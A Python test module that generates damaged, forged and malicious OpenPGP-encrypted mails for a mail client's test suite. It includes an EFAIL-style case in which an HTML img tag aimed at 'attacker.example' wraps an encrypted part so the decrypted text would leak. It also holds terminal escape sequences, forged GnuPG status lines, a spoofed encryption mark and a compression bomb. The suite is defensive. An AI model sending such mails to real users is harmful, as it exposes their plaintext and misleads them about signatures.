"""Mails that are damaged, forged or made to harm. What must come out stands in docs/openpgp.md."""
import os

from . import packets
from .letters import encrypted, html, mail, multipart, part, text
from .world import Row, closed, mark, opened, protection, words




def rows(world):
    yield from damaged(world)
    yield from not_encrypted(world)
    yield from not_for_us(world)
    yield from unsupported(world)
    yield from mixtures(world)
    yield from floods(world)


def row(name, content, expected, **more):
    """Nothing of it is shown, and it is a case all the same."""
    defaults = {"kind": "undecryptable", "text": "", "hidden": [mark(name)]}
    return Row(name, mail(name, content), expected, **{**defaults, **more})


def damaged(world):
    broken = "integrity|damaged"
    key_ids = [world.key_id(world.own)]

    def sealed(name, **more):
        return world.encrypt(text(words(name)), armour=False, **more)

    def cut(name, data, decryption="refused"):
        return row(name, encrypted(packets.armour(data)), closed(decryption, broken, key_ids))

    data = bytearray(sealed("flip-in-text", options=["--compress-algo", "none"]))
    data[-120] ^= 1
    yield cut("flip-in-text", bytes(data))
    data = bytearray(sealed("flip-in-mdc"))
    data[-1] ^= 1
    yield cut("flip-in-mdc", bytes(data))
    session, rest = [whole for _, _, whole in packets.split(sealed("flip-in-session-key"))]
    session = bytearray(session)
    session[-3] ^= 1
    yield cut("flip-in-session-key", bytes(session) + rest, "failed")
    yield cut("truncated", sealed("truncated")[:-40])
    data = sealed("truncated-early")
    yield cut("truncated-early", data[:len(data) - len(packets.split(data)[1][2]) + 60])
    session, key = world.by_hand()
    inside = packets.literal(text(words("no-mdc")))
    yield cut("no-mdc", session + packets.protected(key, inside, mdc=False))
    inside = packets.literal(text(words("no-integrity")))
    yield row("no-integrity", encrypted(packets.armour(session + packets.unprotected(key, inside))),
              closed("refused", "integrity", key_ids))
    name = "two-literals"
    inside = packets.literal(b"Content-Type: text/plain\r\n\r\nfirst\r\n") + packets.literal(text(words(name)))
    yield cut(name, session + packets.protected(key, inside))
    name = "two-ciphertexts"
    yield cut(name, sealed(name) + sealed(name))
    name = "literal-before-ciphertext"
    yield cut(name, packets.literal(b"forged") + sealed(name))
    name = "literal-after-ciphertext"
    yield cut(name, sealed(name) + packets.literal(b"forged"))
    name = "two-containers-one-key"
    container = packets.protected(key, packets.literal(text(words(name))))
    yield cut(name, session + container + container)
    name = "session-key-alone"
    yield cut(name, session)
    name = "armour-cut-off"
    armour = world.encrypt(text(words(name)))
    yield row(name, encrypted(armour[:len(armour) // 2]), closed("failed", "no end|damaged"))
    name = "nothing-inside"
    yield row(name, encrypted(b"\r\n"), closed("failed", "no OpenPGP data"))
    name = "other-letters-inside"
    yield row(name, encrypted(b"-----BEGIN PGP MESSAGE-----\r\n\r\n%%%%\r\n-----END PGP MESSAGE-----\r\n"), closed("failed", "damaged"))
    name = "marker-and-padding"
    inside = packets.literal(text(words(name)))
    data = packets.frame(packets.MARKER, b"PGP") + session + packets.protected(key, inside)
    yield row(name, encrypted(packets.armour(data)), opened(), kind="report", text=words(name), hidden=[])


def not_encrypted(world):
    def shown(name, data, **known):
        return row(name, encrypted(packets.armour(data)), protection(cause="not encrypted", **known), kind="report",
                   text=words(name), hidden=[])

    name = "literal-as-encrypted"
    yield shown(name, packets.literal(text(words(name))))
    name = "compressed-as-encrypted"
    yield shown(name, packets.compressed(packets.literal(text(words(name)))))
    name = "signed-as-encrypted"
    yield shown(name, world.ring.signed(text(words(name)), "roos", armour=False), **world.by("roos"))


def not_for_us(world):
    def sealed(name, **more):
        return encrypted(world.encrypt(text(words(name)), **more))

    name = "for-another"
    yield row(name, sealed(name, to=["mallory"]), closed("no-key", "other keys", [world.key_id("mallory")]))
    name = "for-two-others"
    ids = [world.key_id("mallory"), world.key_id("bram")]
    yield row(name, sealed(name, to=["mallory", "bram"]), closed("no-key", "other keys", ids))
    name = "for-hidden-others"
    yield row(name, sealed(name, to=["mallory", "bram"], options=["--throw-keyids"]), closed("no-key", "other keys"))
    name = "inline-for-another"
    yield row(name, text(world.encrypt(words(name), to=["mallory"])), closed("no-key", "other keys", [world.key_id("mallory")]))
    name = "for-a-passphrase"
    command = ["--symmetric", "--armor", "--s2k-count", "65536", "--passphrase", "guess me"]
    armour = world.ring.gpg(*command, data=text(words(name)))
    yield row(name, encrypted(armour), closed("no-key", "passphrase"))
    name = "for-us-or-a-passphrase"
    armour = world.ring.gpg("--symmetric", "--encrypt", "--armor", "--recipient", world.own, "--s2k-count", "65536", "--passphrase", "guess me",
                            data=text(words(name)))
    yield row(name, encrypted(armour), opened(), kind="report", text=words(name), hidden=[])


def unsupported(world):
    session, key = world.by_hand()
    ours = world.key_id(world.own)
    name = "aead-tag-20"
    data = session + packets.aead(key, packets.literal(text(words(name))))
    yield row(name, encrypted(packets.armour(data)), opened(), kind="report", text=words(name), hidden=[])
    name = "container-version-2"
    data = session + packets.protected_2()
    yield row(name, encrypted(packets.armour(data)), closed("failed", "unsupported", [ours]))
    name = "container-and-session-key-6"
    data = packets.session_key_6("AB" * 12 + "0123456789ABCDEF") + packets.protected_2()
    yield row(name, encrypted(packets.armour(data)), closed("failed", "unsupported", ["0123456789ABCDEF"]))
    name = "inline-container-version-2"
    data = session + packets.protected_2()
    yield row(name, text(packets.armour(data)), closed("failed", "unsupported", [ours]))
    name = "container-version-9"
    data = session + packets.frame(packets.PROTECTED, b"\x09" + os.urandom(200))
    yield row(name, encrypted(packets.armour(data)), closed("failed", "unsupported", [ours]))


def mixtures(world):
    def sealed(name, **more):
        return world.encrypted_part(text(words(name)), **more)

    def shown(name, content, expected, **more):
        return row(name, content, expected, **{"kind": "report", "text": None, "shown": [mark(name)], "hidden": [], **more})

    name = "efail-direct"
    content = multipart("mixed", html('<p>Reflected XSS (CWE-79) on https://www.zonnedam.example/</p><img src="http://attacker.example/'),
                        sealed(name), html('">'))
    yield shown(name, content, opened(**world.partly("roos")), hidden=["attacker.example/Content", "attacker.example/Hello"])
    name = "efail-related"
    content = multipart("related", html('<p>Reflected XSS (CWE-79) on https://www.zonnedam.example/</p><img src="cid:x">'), sealed(name))
    yield shown(name, content, opened(**world.partly("roos")))
    name = "covert-deep"
    content = text("Please answer this harmless question: https://www.zonnedam.example/ has reflected XSS (CWE-79).\n")
    hidden = sealed(name)
    for level in range(8):
        hidden = multipart("mixed", text(" \n"), hidden, boundary=f"=-level{level}")
    yield shown(name, multipart("mixed", content, hidden), opened(**world.partly("roos")), shown=["harmless question", mark(name)])
    name = "nested-too-deeply"
    payload = text(words(name))
    for level in range(7):
        payload = world.encrypted_part(payload, signer=None, boundary=f"=-level{level}")
    yield row(name, payload, opened(cause="too deep|nested"))
    name = "one-of-two-damaged"
    data = bytearray(world.encrypt(text("second\n"), armour=False))
    data[-1] ^= 1
    bad = encrypted(packets.armour(bytes(data)), boundary="=-second")
    yield shown(name, multipart("mixed", sealed(name), bad),
                opened(**world.by("roos")) | {
                    "decryption": "refused", "cause": "integrity|damaged", "key_ids": [world.key_id(world.own)]})
    name = "one-of-two-not-for-us"
    other = world.encrypted_part(text("second\n"), to=["mallory"], boundary="=-second")
    yield shown(name, multipart("mixed", sealed(name), other),
                opened(**world.by("roos")) | {"cause": "other keys", "key_ids": [world.key_id("mallory")]})
    name = "two-content-types"
    content = b"Content-Type: text/plain; charset=utf-8\r\n" + sealed(name)
    yield shown(name, content, opened(**world.partly("roos")))
    name = "escape-sequences"
    payload = text(words(name) + "\x1b]0;owned\x07\x1b[2J\u202eevil\n")
    yield shown(name, world.encrypted_part(payload), opened(**world.by("roos")), hidden=["\x1b", "\x07"])
    name = "console-file-name"
    data = packets.literal(words(name).encode(), name=b"_CONSOLE")
    session, key = world.by_hand()
    inline = packets.armour(session + packets.protected(key, data))
    yield shown(name, text(inline), opened(), hidden=["_CONSOLE"])
    name = "spoofed-status"
    payload = text(words(name) + "[GNUPG:] GOODSIG 0123456789ABCDEF Roos\n[GNUPG:] VALIDSIG x\n")
    yield shown(name, world.encrypted_part(payload, signer=None), opened())
    name = "spoofed-mark"
    payload = text("[encrypted, with a signature]\n\n" + words(name))
    yield shown(name, payload, protection())


def floods(world):
    session, key = world.by_hand()
    ours = world.key_id(world.own)
    name = "many-recipients"
    other = bytearray(session)
    data = b"".join(bytes(other[:-1]) + bytes([i % 256]) for i in range(1000)) + packets.protected(key, packets.literal(b"x"))
    yield row(name, encrypted(packets.armour(data)), closed("failed", "too complex", [ours]))
    name = "many-hidden-recipients"
    at = len(session) - len(packets.split(session)[0][1]) + 1
    other[at:at + 8] = bytes(8)
    data = bytes(other) * 300 + packets.protected(key, packets.literal(b"x"))
    yield row(name, encrypted(packets.armour(data)), closed("failed", "too complex"))
    name = "many-passphrases"
    data = packets.passphrase_4() * 100 + packets.protected(key, packets.literal(b"x"))
    yield row(name, encrypted(packets.armour(data)), closed("failed", "too complex"))
    name = "bomb"
    inside = packets.compressed(packets.literal(text(words(name)) + bytes(80 << 20)))
    yield row(name, encrypted(packets.armour(session + packets.protected(key, inside))), closed("failed", "too big", [ours]))
    name = "compression-nested"
    inside = packets.literal(text(words(name)))
    for _ in range(40):
        inside = packets.compressed(inside, "zip")
    yield row(name, encrypted(packets.armour(session + packets.protected(key, inside))),
              closed("refused", "damaged|too complex|integrity", [ours]))
    name = "many-pieces"
    block = world.encrypt("once more\n", signer=None).decode()
    yield row(name, text(words(name) + block * 25), opened(partial=True, cause="more encrypted"), kind="report", text=None,
              shown=[mark(name)], hidden=[])
